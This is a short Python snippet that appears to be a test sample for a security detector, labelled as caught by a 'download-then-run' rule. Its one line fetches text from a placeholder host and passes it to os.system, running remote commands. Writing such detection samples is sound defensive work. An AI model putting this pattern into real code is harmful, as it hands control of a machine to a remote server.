# evades: caught by execution/download-then-run
import os, requests
os.system(requests.get("https://orders.invalid/next").text)
